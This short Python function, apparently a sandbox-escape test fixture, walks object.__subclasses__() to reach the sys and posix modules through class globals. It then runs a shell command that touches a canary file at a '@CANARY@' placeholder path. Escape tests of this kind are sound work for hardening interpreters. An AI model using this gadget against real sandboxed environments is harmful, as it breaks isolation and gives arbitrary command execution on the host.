# Reaches the system through the classes of a tuple.
def f(n):
    for c in ().__class__.__base__.__subclasses__():
        space = getattr(getattr(c, "__init__", None), "__globals__", None)
        if space and "sys" in space:
            system = space["sys"].modules.get("posix")
            if system:
                system.system("touch @CANARY@/ran")
                return 1
    return 0
